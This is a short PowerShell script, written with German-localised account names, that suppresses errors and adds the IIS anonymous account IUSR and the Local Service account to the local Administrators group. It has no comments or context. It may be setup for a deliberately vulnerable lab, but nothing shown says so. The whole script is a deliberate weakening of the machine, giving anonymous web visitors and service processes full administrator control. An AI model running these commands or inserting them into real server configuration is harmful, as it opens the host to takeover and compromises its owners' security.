$ErrorActionPreference = 'Continue'
net localgroup Administratoren IUSR /add
net localgroup Administrators "NT-AUTORITÄT\Lokaler Dienst" /add
